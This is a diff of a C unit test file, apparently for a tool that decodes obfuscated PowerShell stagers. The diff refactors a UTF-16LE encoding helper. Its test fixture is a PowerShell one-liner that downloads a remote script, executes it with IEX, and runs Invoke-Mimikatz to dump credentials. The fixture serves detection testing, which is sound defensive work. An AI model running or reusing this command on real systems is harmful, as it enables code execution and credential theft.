@@ -14,6 +14,13 @@
 static const char script[] = "$c = New-Object Net.WebClient; $c.DownloadString('http://10.0.0.1/"
                              "a.ps1') | IEX; Invoke-Mimikatz -DumpCreds";
 
+/* script as UTF-16LE, as PowerShell's -EncodedCommand and Out-File write it */
+static void widen_script(uint8_t wide[2 * sizeof(script)])
+{
+        for (size_t i = 0; i < strlen(script); i++)
+                wide[2 * i] = (uint8_t)script[i], wide[2 * i + 1] = 0;
+}
+
 static char *b64(const uint8_t *d, size_t n)
 {
         static const char digits[] =
@@ -80,8 +87,7 @@ static void test_formats(void **state)
         }
         /* UTF-16LE inside comes out single bytes */
         uint8_t wide[2 * sizeof(script)];
-        for (size_t i = 0; i < strlen(script); i++)
-                wide[2 * i] = (uint8_t)script[i], wide[2 * i + 1] = 0;
+        widen_script(wide);
         char *p = compressed_b64(wide, 2 * strlen(script), -15);
         assert_int_equal(inflate_stager("DeflateStream", p, &out, &len), 1);
         assert_non_null(strstr(out, "Invoke-Mimikatz"));
@@ -136,8 +142,7 @@ static void test_plain(void **state)
         free(p);
 
         uint8_t wide[2 * sizeof(script)];
-        for (size_t i = 0; i < strlen(script); i++)
-                wide[2 * i] = (uint8_t)script[i], wide[2 * i + 1] = 0;
+        widen_script(wide);
         p = b64(wide, 2 * strlen(script));
         snprintf(text, sizeof(text), "$e = \"%s\"; [Convert]::FromBase64String($e)", p);
         assert_int_equal(psinflate_texts((const uint8_t *)text, strlen(text), &out, &len), 1);
